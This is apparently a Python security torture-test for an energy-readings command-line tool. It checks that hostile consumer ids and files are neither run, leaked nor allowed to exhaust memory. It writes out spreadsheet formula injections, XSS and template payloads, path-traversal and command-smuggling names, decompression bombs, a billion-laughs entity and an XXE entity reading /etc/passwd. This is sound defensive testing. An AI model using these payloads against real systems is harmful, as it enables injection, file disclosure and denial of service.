"""Readings as an attack: nothing in them is run, nothing leaves the run directory, memory stays bounded."""

from __future__ import annotations

import csv
import gzip
import random
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import openpyxl
import pyarrow as pa
import pyarrow.parquet as parquet

from tests.conftest import Outcome
from tests.torture.tally import MENDABLE, RIGHT, WRONG_CALL, Tally, call, inside, untold

PROMISE = "Hostile readings run nothing, write nothing outside the run, and take no more than 0.7 GB"
HOW = (
    "formulas, markup and paths as ids, from ingest to report and tables; bombs of gzip, zip, Parquet and "
    "XML, endless lines, headers and ids, each in a process whose memory is measured; odd fields in XML"
)
SHORT, LONG = 6, 320
BOUND_MB = 700
FORMULAS = (
    *("=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1,"y")', "+1+1", "-2+3", "@SUM(A1)", '"&A1&"'),
    *("\t=1+1", "=\"a\"&'b'", "+cmd|'x'!A", "-cmd|'x'!A", "\u200b=1+1", "＝1+1"),
)
MARKUP = (
    *("<script>owned()</script>", '"><img src=x onerror=owned()>', "</style><svg/onload=owned()>", "{{7*7}}"),
    *("{% for x in y %}", "<!--", "]]>", "&lt;b&gt;", "javascript:owned()", "<iframe src=//x>", "&#x3c;b"),
    *("' onmouseover='owned()", "${7*7}", "%s%n", "<base href=//x>", "\x1b[2J"),
)
PATHS = (
    *("../../../../owned", "/tmp/owned", "..", ".", "a/b/c", "C:\\owned", "~/owned", "$(touch owned)", "nul"),
    *("`touch owned`", "..\\owned", "%2e%2e%2fowned", "\u202eowned", "-rf", "*", "; touch owned"),
)
ENDS = ("", "%s", "/", "'")
ACTIVE = ("script", "iframe", "img", "object", "embed", "link", "form", "base")


class Page(HTMLParser):
    """Collects what a page would run or fetch."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.active: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        """Note tags and attributes that act."""
        self.active += [tag] if tag in ACTIVE else []
        self.active += [name for name, _ in attributes if name.startswith("on")]
        fetched = [value or "" for name, value in attributes if name in ("href", "src", "xlink:href")]
        self.active += [value for value in fetched if not value.startswith("#")]


def readings(ids: list[str], days: int = 3) -> str:
    """Return a long CSV of some consumers with three kinds of days."""
    stamps = np.datetime64("2013-01-01T00:00") + np.arange(48 * days) * np.timedelta64(30, "m")
    lines = []
    for number, name in enumerate(ids):
        quoted = '"' + name.replace('"', '""') + '"'
        energy = np.random.default_rng(number % 3).gamma(2.0, 0.2, 48 * days)
        lines += [f"{quoted},{stamp},{kwh:.3f}" for stamp, kwh in zip(stamps.tolist(), energy, strict=True)]
    return "\n".join(["id,time,kwh", *lines, ""])


def names_that_attack(number: int) -> str:
    """Take one population through the whole chain; say what was run, lost, or written elsewhere."""
    draw = random.Random(number)
    chosen = [*draw.sample(FORMULAS, 3), *draw.sample(MARKUP, 3), *draw.sample(PATHS, 3)]
    ids = [*chosen, *(f"{one}{draw.choice(ENDS)}{number}" for number, one in enumerate(chosen))]
    Path("readings.csv").write_text(readings(ids))
    run, of = ("--run", "run"), ("--clusters", 2)
    for given in (
        ("ingest", *run, "readings.csv"),
        ("quality", *run),
        ("stage1", *run, "--prototypes", 2),
        ("stage2", *run, *of),
        ("rrls", *run, *of, "--communities", 2),
        ("report", *run, *of),
        ("export", *run, *of, "table.csv"),
        ("export", *run, *of, "--excel", "excel.csv"),
    ):
        ended = call(*given)
        if ended.code:
            return f"{given[0]}: {ended.err[-300:]}"
    return changed(ids) or active()


def changed(ids: list[str]) -> str:
    """Say which ids the tables have not as they were, or as more than a text for Excel."""
    with Path("table.csv").open(newline="") as file:
        back = sorted(row["consumer_id"] for row in csv.DictReader(file))
    if back != sorted(ids):
        return f"ids changed: {set(back) ^ set(ids)}"
    with Path("excel.csv").open(newline="", encoding="utf-8-sig") as file:
        cells = [row["consumer_id"] for row in csv.DictReader(file)]
    loose = [cell for cell in cells if cell[:2] != '="' or '"' in cell[2:-1].replace('""', "")]
    if loose or sorted(cell[2:-1].replace('""', '"') for cell in cells) != sorted(ids):
        return f"a cell is more than a text: {loose}"
    return ""


def active() -> str:
    """Say what the pages would run or fetch, and what was written beside the run."""
    own = {path.resolve() for path in Path("run").rglob("*") if path.is_file()}  # other pages, and data
    for path in [*Path("run").rglob("*.html"), *Path("run").rglob("*.svg")]:
        found = [link for link in Page(path.read_text()).active if (path.parent / link).resolve() not in own]
        if found:
            return f"{path} would run or fetch {found}"
    left = {path.name for path in Path().iterdir()} - {"readings.csv", "run", "table.csv", "excel.csv"}
    return f"written outside the run: {left}" if left else ""


PACKED, HEAD = "bomb.csv.gz", b"id,time,kwh\n"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
ROW = b"C1,2013-01-01 00:00,1\nC1,2013-01-01 00:30,1\n"


def packed(start: bytes, piece: bytes, times: int, name: str = PACKED) -> None:
    """Write a gzip of one piece many times, as a file of many parts, which is made at once."""
    part = gzip.compress(piece, 1)
    with Path(name).open("wb") as file:
        file.write(gzip.compress(start))
        for _ in range(times):
            file.write(part)


def zipped(
    start: bytes, times: int, piece: bytes = b"\n", member: str = "a.csv", name: str = "bomb.zip"
) -> None:
    """Write a zip of a beginning and so many megabytes of line ends, or of another piece."""
    with (
        zipfile.ZipFile(name, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open(member, "w", force_zip64=True) as file,
    ):
        file.write(start)
        for _ in range(times):
            file.write(piece * ((1 << 20) // len(piece)))


def workbook(start: str, times: int, piece: str) -> None:
    """Write a workbook whose only sheet begins so, and goes on with so many megabytes of a piece."""
    openpyxl.Workbook().save("empty.xlsx")
    zipped(start.encode(), times, piece.encode(), "xl/worksheets/sheet1.xml", "bomb.xlsx")
    with zipfile.ZipFile("empty.xlsx") as empty, zipfile.ZipFile("bomb.xlsx", "a") as bomb:
        for part in set(empty.namelist()) - set(bomb.namelist()):
            bomb.writestr(part, empty.read(part))
    Path("empty.xlsx").unlink()


def parquet_bomb(text: str, rows: int, groups: int) -> None:
    """Write a Parquet file of few bytes and very many, or very long, equal rows."""
    table = pa.table(
        {
            "id": pa.DictionaryArray.from_arrays(np.zeros(rows, np.int8), [text]),
            "time": pa.array(np.full(rows, np.datetime64("2013-01-01", "s"))),
            "kwh": np.zeros(rows, np.float32),
        }
    )
    with parquet.ParquetWriter("bomb.parquet", table.schema, compression="zstd") as writer:
        for _ in range(groups):
            writer.write_table(table)


def xml(inside_it: str) -> None:
    """Write a Green Button feed with a document type."""
    start = f'<?xml version="1.0"?><!DOCTYPE feed [{inside_it}]>'
    Path("bomb.xml").write_text(f"{start}<feed><title>&l9;</title></feed>")


MB = 1 << 20
SHEET = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
CELL = '<row r="1"><c r="A1" t="inlineStr"><is><t>'
BOMBS: dict[str, tuple[str, Callable[[], None]]] = {
    "gzip: zeros": (PACKED, lambda: packed(b"", bytes(MB), 1500)),
    "xml: a billion laughs": ("bomb.xml", lambda: xml('<!ENTITY l0 "ha">' + LAUGHS)),
    "csv: a billion columns": (PACKED, lambda: packed(b"id,", b"a," * (MB // 2), 2000)),
    "xml: endless elements": (
        "bomb.xml.gz",
        lambda: packed(b"<feed>", b"<a/>" * (MB // 4), 400, "bomb.xml.gz"),
    ),
    "parquet: long texts": ("bomb.parquet", lambda: parquet_bomb("x" * (120 * MB), 1000, 1)),
    "zip: nem12 without end": ("bomb.zip", lambda: zipped(b"100,NEM12,200001010000,a,b\n", 800)),
    "xml: a file as an entity": ("bomb.xml", lambda: xml('<!ENTITY l9 SYSTEM "file:///etc/passwd">')),
    "xml: deep": ("bomb.xml.gz", lambda: packed(b"", b"<a>" * (MB // 3), 400, "bomb.xml.gz")),
    "xml: an endless text": ("bomb.xml.gz", lambda: packed(b"<feed><entry>", b"x" * MB, 1500, "bomb.xml.gz")),
    "csv: a line just short enough": (PACKED, lambda: packed(b"id,time,kwh", b",ab" * (5 * MB), 1)),
    "csv: an endless line": (PACKED, lambda: packed(HEAD, b"x" * MB, 1500)),
    "csv: an endless quoted field": (PACKED, lambda: packed(HEAD + b'"', b"x,y\n" * (MB // 4), 400)),
    "csv: an endless id": (PACKED, lambda: packed(HEAD, b"x" * (9 * MB) + b",2013-01-01 00:00,1\n", 1)),
    "csv: blank lines": (PACKED, lambda: packed(HEAD, b"\n" * MB, 300)),
    "csv: one reading again and again": (PACKED, lambda: packed(HEAD, ROW * (MB // len(ROW)), 300)),
    "parquet: many rows": ("bomb.parquet", lambda: parquet_bomb("C1", MB, 20)),
}
READERS = {"xml": "greenbutton", "zip: nem12": "nem12"}
BOMBS |= {
    "zip: an endless line": ("bomb.zip", lambda: zipped(HEAD, 1500, b"x")),
    "zip: blank lines": ("bomb.zip", lambda: zipped(HEAD, 300)),
    "xlsx: an endless text": ("bomb.xlsx", lambda: workbook(SHEET + CELL, 1500, "x")),
    "xlsx: a row far below": ("bomb.xlsx", lambda: workbook(SHEET + '<row r="999999999999">', 1, " ")),
    "xlsx: rows without end": ("bomb.xlsx", lambda: workbook(SHEET, 300, "<row><c><v>1</v></c></row>")),
}


# what the kernel tells the parent would be of the parent's own memory too, if that is larger
MEASURED = """
import atexit
from pathlib import Path
from crocs_cli.__main__ import main
peak = lambda: Path("/proc/self/status").read_text().partition("VmHWM:")[2].split()[0]
atexit.register(lambda: Path("peak").write_text(peak()))
main()
"""


def bombs_that_burst(name: str) -> str:
    """Ingest a bomb in a process of its own; say how it ended wrongly, or how much memory it took."""
    file, write = BOMBS[name]
    write()
    reader = next((reader for start, reader in READERS.items() if name.startswith(start)), "long")
    command = [sys.executable, "-c", MEASURED, "ingest", "--run", "run", "--reader", reader, file]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    Path(file).unlink()
    if not Path("peak").exists():
        return f"ended by {done.returncode}: {done.stderr[-300:]}"
    took = int(Path("peak").read_text()) >> 10
    if took > BOUND_MB:
        return f"took {took} MB: {done.stderr[-300:]}"
    if "root:" in done.stderr:
        return "showed another file"
    return untold(Outcome(done.returncode, "", done.stderr), (RIGHT, MENDABLE, WRONG_CALL))


ODD = ("", "x", "-1", "0", "1e400", "nan", "inf", "9" * 400, "-" + "9" * 25, "2.5", "=1+1", "999")
FIELDS = ("uom", "flowDirection", "powerOfTenMultiplier", "intervalLength", "tzOffset", "dstOffset")
READING = ("start", "duration", "value", "quality")
ENTRY = "<entry><link rel='self' href='User/u/UsagePoint/p/ReadingType/1'/><content>{}</content></entry>"


def odd_feed(number: int) -> str:
    """Ingest a feed of one day with one odd field; say whether it was not told in one line."""
    values = dict(zip(FIELDS, (72, 1, 0, 3600, 0, 0), strict=True)) | {
        "duration": 3600,
        "value": 5,
        "quality": 0,
    }
    field = (*FIELDS, *READING)[number % (len(FIELDS) + len(READING))]
    odd = {field: ODD[number // (len(FIELDS) + len(READING)) % len(ODD)]}

    def fields(names: tuple[str, ...], start: int = 0) -> str:
        return "".join(f"<{n}>{({'start': start} | values | odd)[n]}</{n}>" for n in names)

    day = range(1356998400, 1356998400 + 86400, 3600)
    blocks = "".join(f"<IntervalReading>{fields(READING, start)}</IntervalReading>" for start in day)
    parts = {
        "LocalTimeParameters": fields(FIELDS[4:]),
        "ReadingType": fields(FIELDS[:4]),
        "IntervalBlock": blocks,
    }
    feed = "".join(ENTRY.format(f"<{name}>{text}</{name}>") for name, text in parts.items())
    Path("feed.xml").write_text(f"<feed>{feed}</feed>")
    ended = call("ingest", "--run", "run", "--reader", "greenbutton", "feed.xml")
    fault = untold(ended, (RIGHT, MENDABLE, WRONG_CALL))
    return fault and f"{odd}: {fault}"


def attacks(cases: int) -> Iterator[tuple[str, Callable[[], str]]]:
    """Yield so many attacks: the bombs, all of them in a long form, then feeds and populations in turn."""
    bombs = list(BOMBS)[: len(BOMBS) if cases >= LONG else cases // 3]
    for name in bombs:
        yield name, lambda name=name: bombs_that_burst(name)  # type: ignore[misc]
    for number in range(cases - len(bombs)):
        if number % 2:
            yield f"ids {number}", lambda number=number: names_that_attack(number)  # type: ignore[misc]
        else:
            yield f"feed {number // 2}", lambda number=number // 2: odd_feed(number)  # type: ignore[misc]


def torture(cases: int, folder: Path) -> Tally:
    """Try every attack in a directory of its own."""
    tally = Tally()
    for number, (name, attack) in enumerate(attacks(cases)):
        with inside(folder / str(number)):
            tally.case(name, attack())
    above = {path.name for path in folder.iterdir()} - {str(number) for number in range(cases)}
    tally.case("nothing beside the attacks", str(above) if above else "")
    return tally
